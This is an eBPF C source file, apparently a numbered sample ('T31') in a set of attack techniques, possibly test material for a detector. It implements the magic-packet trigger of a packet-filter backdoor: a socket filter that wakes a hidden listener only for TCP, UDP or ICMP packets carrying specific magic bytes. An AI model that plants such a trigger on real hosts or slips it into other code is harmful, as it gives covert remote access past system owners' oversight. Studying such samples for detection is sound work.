// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T31: the eBPF form of a packet-filter backdoor: a socket filter that wakes its owner for a magic payload at a variable
// offset. The classic-BPF carrier of this technique is not an ELF object and is shown elsewhere.
#include "net.h"

LICENSE;

SEC("socket")
int socket_magic(struct __sk_buff *skb)
{
	u8 vihl = 0, proto = 0;
	u32 word = 0, off;
	u16 half = 0;

	bpf_skb_load_bytes(skb, IP_OFF, &vihl, 1);
	bpf_skb_load_bytes(skb, IP_OFF + 9, &proto, 1);
	off = IP_OFF + (vihl & 15) * 4;
	if (proto == IPPROTO_TCP)
		off += 20;
	else if (proto == IPPROTO_UDP || proto == IPPROTO_ICMP)
		off += 8;
	else
		return 0;
	if (bpf_skb_load_bytes(skb, off, &half, sizeof(half)) || half != 0x5293)
		return 0;
	if (bpf_skb_load_bytes(skb, off + 2, &word, sizeof(word)) || word != 0x39393939)
		return 0;
	return skb->len;
}
